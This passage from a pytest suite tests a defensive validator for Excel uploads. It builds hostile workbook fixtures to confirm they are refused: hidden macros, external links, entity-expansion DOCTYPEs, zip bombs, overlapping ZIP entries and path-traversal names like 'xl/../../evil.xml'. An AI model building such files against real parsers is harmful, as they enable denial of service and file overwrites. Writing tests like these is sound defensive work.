            edit=lambda parts: parts.update(
                {
                    name: part.replace(
                        b"http://schemas.openxmlformats.org/spreadsheetml/2006/main",
                        b"http://purl.oclc.org/ooxml/spreadsheetml/main",
                    )
                    for name, part in parts.items()
                }
            )
        ).content(),
        Outcome(DAMAGED, "it is saved as Strict Open XML Spreadsheet"),
    ),
}


@pytest.mark.parametrize(("content", "expected"), SHEETS.values(), ids=list(SHEETS))
def test_which_sheets_a_workbook_may_have(content: bytes, expected: Outcome) -> None:
    assert_outcome(content, expected)


# Parts that a good workbook may have

SHEET_LINKS = "xl/worksheets/_rels/sheet1.xml.rels"
VML = '<xml xmlns:v="urn:schemas-microsoft-com:vml"><v:shape id="_x0000_s1025" type="#_x0000_t202"/></xml>'
VALIDATION = (
    '<dataValidations count="1"><dataValidation type="list" sqref="B2:B9"><formula1>"Y,N,NA"</formula1></dataValidation>'
    "</dataValidations>"
)
NOTE = '<comment ref="A1"><text><t>Mend it</t></text></comment>'
COLOURS = '<cfRule type="cellIs" priority="1"><formula>1</formula></cfRule>'
FONTS = '<fonts><font><family val="99"/></font></fonts><cellXfs><xf/></cellXfs>'


def without_styles(parts: dict[str, bytes]) -> None:
    parts.pop("xl/styles.xml")
    links = relationships(link("s1", "worksheet", "/xl/worksheets/sheet1.xml"))
    parts["xl/_rels/workbook.xml.rels"] = links.encode()


PASSIVE = {
    "notes on cells": with_parts(
        {
            "xl/comments1.xml": f'<comments xmlns="{MAIN}"><commentList>{NOTE}</commentList></comments>',
            "xl/drawings/vmlDrawing1.vml": VML,
            SHEET_LINKS: relationships(
                link("c", "comments", "../comments1.xml"), link("v", "vmlDrawing", "../drawings/vmlDrawing1.vml")
            ),
            SHEET: worksheet(GOOD, tail='<legacyDrawing r:id="v"/>'),
        },
        types={"xl/comments1.xml": f"{KIND}.comments+xml"},
    ),
    "lists to choose from": book(tail=VALIDATION),
    "a protected sheet": book(tail='<sheetProtection sheet="1" password="CC1A" objects="1"/>'),
    "a protected workbook": book(properties='<workbookProtection lockStructure="1"/>'),
    "colours by rule": book(tail=f'<conditionalFormatting sqref="A1">{COLOURS}</conditionalFormatting>'),
    "a filter that hides nothing": book(tail='<autoFilter ref="A1:C2"/>'),
    "a pane that stands still": book(
        head='<sheetViews><sheetView workbookViewId="0"><pane ySplit="1" topLeftCell="A2"/></sheetView></sheetViews>'
    ),
    "an address to click on": with_parts(
        {SHEET_LINKS: relationships(link("h", "hyperlink", "mailto:someone@example.org", "External"))}
    ),
    "a picture and a chart": with_parts(
        {"xl/media/image1.png": b"\x89PNG\r\n", "xl/charts/chart1.xml": "<c:chart xmlns:c='c'/>"}
    ),
    "settings of a printer": with_parts({"xl/printerSettings/printerSettings1.bin": bytes(range(256))}),
    "labels of an office": with_parts({"docMetadata/LabelInfo.xml": "<labels/>", "customXml/item1.xml": "<a/>"}),
    "a thread of comments": with_parts(
        {"xl/threadedComments/threadedComment1.xml": "<a/>", "xl/persons/person.xml": "<a/>"}
    ),
    "properties that openpyxl does not take": with_parts(
        {"docProps/core.xml": "<nonsense/>", "docProps/app.xml": "<x/>"}
    ),
    "fonts that openpyxl does not take": with_parts(
        {"xl/styles.xml": f'<styleSheet xmlns="{MAIN}">{FONTS}</styleSheet>'}
    ),
    "a theme that is none": with_parts({"xl/theme/theme1.xml": "<a/>"}),
    "names of ranges": changed(
        "xl/workbook.xml",
        "</sheets>",
        "</sheets><definedNames><definedName name='x'>Return!$A$1</definedName></definedNames>",
    ),
    "no styles": Book(edit=without_styles).content(),
    "a template": changed("[Content_Types].xml", "sheet.main+xml", "template.main+xml"),
}


@pytest.mark.parametrize("content", PASSIVE.values(), ids=list(PASSIVE))
def test_what_does_no_harm_passes(content: bytes) -> None:
    assert outcome(content) == accepted()


# What is active


def kind_of(name: str, kind: str) -> bytes:
    return with_parts({name: b"x"}, types={name: kind})


def linked(kind: str, target: str = "thing.bin", mode: str = "", links: str = "xl/_rels/workbook.xml.rels") -> bytes:
    if links == "xl/_rels/workbook.xml.rels":
        return with_parts({}, links=(link("z", kind, target, mode),))
    more = [link("b", "officeDocument", "xl/workbook.xml")] if links == "_rels/.rels" else []
    return with_parts({links: relationships(*more, link("z", kind, target, mode))})


ACTIVE_BOOKS = {
    "a workbook with macros by its type": changed(
        "[Content_Types].xml", f"{KIND}.sheet.main+xml", "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
    ),
    "macros under another name": kind_of("xl/media/a.bin", "application/vnd.ms-office.vbaProject"),
    "a control under another name": kind_of("xl/media/a.bin", "application/vnd.ms-office.activeX"),
    "macros as every other file": changed(
        "[Content_Types].xml",
        "<Override",
        '<Default Extension="png" ContentType="application/vnd.ms-office.vbaProject"/><Override',
    ),
    "a type in letters as numbers": changed(
        "[Content_Types].xml",
        "<Override",
        '<Default Extension="q" ContentType="application/vnd.ms-office.vba&#80;roject"/><Override',
    ),
    "a link to macros": linked("http://schemas.microsoft.com/office/2006/relationships/vbaProject"),
    "a link to an object": linked("oleObject", links=SHEET_LINKS),
    "a link to an embedded file": linked("package", links=SHEET_LINKS),
    "a link to a control": linked("control", links=SHEET_LINKS),
    "a link to another workbook": linked("externalLink"),
    "a link to a connection": linked("connections"),
    "a link to a query": linked("queryTable", links=SHEET_LINKS),
    "a link to buttons of its own": linked(
        "http://schemas.microsoft.com/office/2007/relationships/ui/extensibility", links="_rels/.rels"
    ),
    "a picture from elsewhere": linked(
        "image", "http://example.org/seen.png", "External", "xl/drawings/_rels/drawing1.xml.rels"
    ),
    "a workbook from elsewhere": linked(
        "externalLinkPath", "file:///c:/book.xlsx", "External", "xl/other/_rels/a.xml.rels"
    ),
    "a template from elsewhere": linked("attachedTemplate", "http://example.org/a.xltx", "external", "_rels/.rels"),
    "a sheet from elsewhere": linked("worksheet", "http://example.org/sheet.xml", "External"),
    "forms": with_parts({"xl/ctrlProps/ctrlProp1.xml": "<a/>"}),
}


@pytest.mark.parametrize("content", ACTIVE_BOOKS.values(), ids=list(ACTIVE_BOOKS))
def test_what_runs_or_reaches_out_is_refused_whatever_its_name(content: bytes) -> None:
    assert_outcome(content, Outcome(ACTIVE, OUTSIDE))


@pytest.mark.parametrize(
    "part",
    [
        "xl/sharedStrings.xml",
        "xl/styles.xml",
        "xl/theme/theme1.xml",
        "xl/drawings/vmlDrawing1.vml",
        "docProps/core.xml",
        "xl/media/image1.png",
        SHEET_LINKS,
    ],
)
@pytest.mark.parametrize(
    "declared",
    [
        '<!DOCTYPE a SYSTEM "http://example.org/a.dtd"><a/>',
        '<!DOCTYPE a [<!ENTITY b "&c;&c;"><!ENTITY c "x">]><a>&b;</a>',
        "<!-- a note -->\n<!DOCTYPE a><a/>",
    ],
    ids=["elsewhere", "entities", "after a comment"],
)
def test_a_document_type_is_found_wherever_it_stands(part: str, declared: str) -> None:
    assert_outcome(with_parts({part: declared}), Outcome(ACTIVE, ENTITIES))


@pytest.mark.parametrize("before", range(9))
def test_a_document_type_is_found_where_one_piece_of_a_part_ends_and_the_next_begins(before: int) -> None:
    comment = f"<!--{'x' * (PIECE - before - 7)}-->"
    parts = {**PARTS, "docProps/core.xml": f"{comment}<!DOCTYPE a><a/>".encode()}
    assert_outcome(zipped(parts, zipfile.ZIP_STORED), Outcome(ACTIVE, ENTITIES))


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be", "utf-32"])
@pytest.mark.parametrize("part", [SHEET, "xl/workbook.xml", "xl/styles.xml", "[Content_Types].xml"])
def test_xml_in_another_encoding_is_refused(part: str, encoding: str) -> None:
    old = Book().parts()[part].decode()
    assert_outcome(with_parts({part: old.encode(encoding)}), Outcome(DAMAGED, NO_UTF8))


@pytest.mark.parametrize("name", ["iso-8859-1", "utf-7", "us-ascii", "UTF-16", "windows-1252"])
def test_xml_that_says_it_has_another_encoding_is_refused(name: str) -> None:
    content = Book((Tab("Return", f'<?xml version="1.0" encoding="{name}"?>' + worksheet(GOOD)),)).content()
    assert_outcome(content, Outcome(DAMAGED, NO_UTF8))


def test_an_encoding_behind_more_blanks_than_one_piece_of_a_part_holds_is_refused() -> None:
    declared = f'<?xml version="1.0"{" " * PIECE}encoding="iso-8859-1"?>'
    assert_outcome(
        zipped({**PARTS, SHEET: (declared + worksheet(GOOD)).encode()}, zipfile.ZIP_STORED), Outcome(DAMAGED)
    )


def test_a_workbook_that_its_root_does_not_name_is_refused() -> None:
    other = relationships(link("b", "officeDocument", "xl/other.xml"))
    assert_outcome(with_parts({"_rels/.rels": other, "xl/other.xml": "<a/>"}), Outcome(DAMAGED))
    two = relationships(link("b", "officeDocument", "xl/workbook.xml"), link("c", "officeDocument", "xl/other.xml"))
    assert_outcome(with_parts({"_rels/.rels": two}), Outcome(DAMAGED))


def test_two_tables_of_shared_texts_are_refused() -> None:
    other = f'<sst xmlns="{MAIN}"><si><t>other</t></si></sst>'
    two = with_parts({"xl/other.xml": other}, links=(link("o", "sharedStrings", "other.xml"),))
    assert_outcome(two, Outcome(DAMAGED))


def test_the_table_of_shared_texts_is_the_one_that_the_workbook_links_to() -> None:
    """Not the one that the list of types names: a spreadsheet shows the texts of the first."""
    decoy = f'<sst xmlns="{MAIN}"><si><t>decoy</t></si></sst>'.encode()
    content = book(
        with_cell(shared(0)),
        strings=STRINGS,
        types={"xl/sharedStrings.xml": "application/xml", "xl/decoy.xml": f"{KIND}.sharedStrings+xml"},
        edit=lambda parts: parts.update({"xl/decoy.xml": decoy}),
    )
    assert outcome(content) == accepted(cells=[(2, ("1", "met", "x"))])


# The archive

NOTHING = bytes(2_500_000)


def shortened() -> bytes:
    """The directory has the size and the checksum of the good rows; in the archive the sheet goes on."""
    half = worksheet(GOOD).encode()
    longer = zipped({**PARTS, SHEET: half + b"<!-- and more -->"})
    return patched(patched(longer, SHEET, CENTRAL_SIZE, len(half)), SHEET, CENTRAL_CRC, zlib.crc32(half))


def shortened_in_front() -> bytes:
    """The same lie told in both places."""
    half = worksheet(GOOD).encode()
    return patched_in_front(
        patched_in_front(shortened(), SHEET, LOCAL_SIZE, len(half)), SHEET, LOCAL_CRC, zlib.crc32(half)
    )


def overlapping() -> bytes:
    """Two entries of the directory for the same bytes, as the bombs have them that do not nest."""
    styles = CONTENT.index(b"PK\x03\x04", 4)
    return patched(CONTENT, "xl/workbook.xml", CENTRAL_OFFSET, styles)


def with_other_end() -> bytes:
    """A comment of the archive that looks like another end of it."""
    return zipped(PARTS, comment=b"PK\x05\x06" + bytes(18))


ARCHIVES = {
    "stored": (zipped(PARTS, zipfile.ZIP_STORED), accepted()),
    "written to a pipe": (streamed(PARTS), accepted()),
    "written to a pipe with long sizes": (streamed(PARTS, force_zip64=True), accepted()),
    "with folders": (zipped({"xl/": b"", "xl/worksheets/": b"", **PARTS}), accepted()),
    "with a comment": (zipped(PARTS, comment=b"made by hand"), accepted()),
    "in another order": (zipped(dict(reversed(PARTS.items()))), accepted()),
    "with a comment that is another end": (with_other_end(), Outcome(DAMAGED)),
    "a part longer than its size": (shortened(), Outcome(DAMAGED)),
    "a part longer than its size, twice told": (shortened_in_front(), Outcome(DAMAGED)),
    "a part shorter than its size": (patched(CONTENT, SHEET, CENTRAL_SIZE, 9_999), Outcome(DAMAGED)),
    "another size in front": (patched_in_front(CONTENT, SHEET, LOCAL_SIZE, 9), Outcome(DAMAGED)),
    "another checksum": (patched(CONTENT, SHEET, CENTRAL_CRC, 9), Outcome(DAMAGED)),
    "another checksum in front": (patched_in_front(CONTENT, SHEET, LOCAL_CRC, 9), Outcome(DAMAGED)),
    "another method in front": (patched_in_front(CONTENT, SHEET, LOCAL_METHOD, 0), Outcome(DAMAGED)),
    "a method that nobody knows": (patched(CONTENT, SHEET, CENTRAL_METHOD, 99), Outcome(DAMAGED)),
    "encrypted in front": (patched_in_front(CONTENT, SHEET, LOCAL_FLAGS, 1), Outcome(DAMAGED)),
    "encrypted by its directory": (patched(CONTENT, SHEET, CENTRAL_FLAGS, 1), Outcome(DAMAGED, "password-protected")),
    "another name in front": (CONTENT.replace(SHEET.encode(), b"xl/worksheets/sheet9.xml", 1), Outcome(DAMAGED)),
    "two parts in the same bytes": (overlapping(), Outcome(DAMAGED)),
    "an offset beyond the end": (patched(CONTENT, SHEET, CENTRAL_OFFSET, 10_000_000), Outcome(DAMAGED)),
    "a hidden part between the parts": (between_parts(CONTENT, zipped({"a.xml": b"<a/>"})[:40]), Outcome(DAMAGED)),
    "packed by LZMA": (zipped(PARTS, zipfile.ZIP_LZMA), Outcome(DAMAGED)),
    "a name in other capitals": (zipped({**PARTS, "XL/WORKSHEETS/SHEET1.XML": b"<a/>"}), Outcome(DAMAGED)),
    "a name with a backslash": (with_parts({"xl\\evil.xml": "<a/>"}), Outcome(DAMAGED)),
    "a name on a drive": (with_parts({"c:/evil.xml": "<a/>"}), Outcome(DAMAGED)),
    "a name that climbs out": (with_parts({"xl/../../evil.xml": "<a/>"}), Outcome(DAMAGED)),
    "a name with a line end": (with_parts({"xl/a\nb.xml": "<a/>"}), Outcome(DAMAGED)),
    "no list of types": (zipped({k: v for k, v in PARTS.items() if k != "[Content_Types].xml"}), Outcome(DAMAGED)),
    "no links": (zipped({k: v for k, v in PARTS.items() if k != "_rels/.rels"}), Outcome(DAMAGED)),
    "no links of the workbook": (
        zipped({k: v for k, v in PARTS.items() if "workbook.xml.rels" not in k}),
        Outcome(DAMAGED),
    ),
    "a comment without end": (
        zipped({**PARTS, SHEET: worksheet(table(HEADER) + f"<!--{'x' * 20_000_000}-->").encode()}, zipfile.ZIP_STORED),
        Outcome(DAMAGED),
    ),
    "a tag without end": (
        zipped({**PARTS, "xl/styles.xml": b"<a b='" + b"x" * 20_000_000 + b"'/>"}, zipfile.ZIP_STORED),
        Outcome(DAMAGED),
    ),
    "a text without end": (
        zipped({**PARTS, SHEET: worksheet(with_cell(text("B2", "x\n" * 3_000_000))).encode()}, zipfile.ZIP_STORED),
        Outcome(BROKEN, "a value is too long", 2),
    ),
    "1,000 parts and more": (with_parts({f"a{at}.bin": b"" for at in range(1_000)}), Outcome(LARGE)),
    "a part of nothing, packed a thousand times": (with_parts({"a.bin": NOTHING}), Outcome(LARGE)),
    "parts of nothing, each small enough": (
        with_parts({f"a{at}.bin": NOTHING[:1_990_000] for at in range(60)}),
        Outcome(LARGE),
    ),
    "a list of types too large to be one": (
        with_parts(
            {
                "[Content_Types].xml": PARTS["[Content_Types].xml"]
                + b"\n".join(b"<!-- %d -->" % at for at in range(500_000))
            }
        ),
        Outcome(LARGE),
    ),
    "only its beginning": (CONTENT[:4], Outcome(DAMAGED)),
    "without its directory": (CONTENT[: CONTENT.index(b"PK\x01\x02")], Outcome(DAMAGED)),
    "without its end": (CONTENT[:-22], Outcome(DAMAGED)),
    "an end that is cut": (CONTENT[:-3], Outcome(DAMAGED)),
    "another archive behind it": (CONTENT + zipped({"a": b""}), Outcome(DAMAGED)),
    "another archive before it": (zipped({"a": b""}) + CONTENT, Outcome(DAMAGED)),
    "a line end behind it": (CONTENT + b"\r\n", Outcome(DAMAGED)),
}


@pytest.mark.parametrize(("content", "expected"), ARCHIVES.values(), ids=list(ARCHIVES))
def test_an_archive_that_two_programs_could_read_in_two_ways_is_refused(content: bytes, expected: Outcome) -> None:
    assert_outcome(content, expected)


OTHERS = {
    "an old workbook": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512), "an old or password-protected workbook"),
    "a binary workbook": (zipped({"[Content_Types].xml": b"<Types/>", "xl/workbook.bin": b"x"}), "no Excel workbook"),
    "a workbook of another office": (
        zipped({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": b"<a/>"}),
        "no Excel workbook",
    ),
    "a letter": (zipped({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<a/>"}), "no Excel workbook"),
    "any archive": (zipped({"photo.jpg": b"x"}), "no Excel workbook"),
    "an archive of nothing": (b"PK\x05\x06" + bytes(18), "an empty ZIP archive"),
    "a table of text": (b"code,answer,note\n", "it is not a workbook"),
    "a document": (b"%PDF-1.7\n", "it is a PDF"),
    "something packed": (gzip.compress(CONTENT), "it is compressed"),
    "a page": (b"<html><table/></html>", "it is HTML or XML"),
    "a workbook as one page of XML": (b'<?xml version="1.0"?><Workbook/>', "it is HTML or XML"),
}


@pytest.mark.parametrize(("content", "detail"), OTHERS.values(), ids=list(OTHERS))
def test_what_is_no_workbook_is_called_what_it_is(content: bytes, detail: str) -> None:
    assert_outcome(content, Outcome(DAMAGED, detail))


def test_a_table_within_the_limits_of_its_collection_is_not_too_large_when_unpacked() -> None:
    """200,000 rows of 100 columns are more than a hundred megabytes of XML."""
    many = with_parts({f"a{at}.bin": NOTHING[:1_990_000] for at in range(60)})
    assert outcome(many, {"rows": 200_000, "columns": 100}) == accepted()
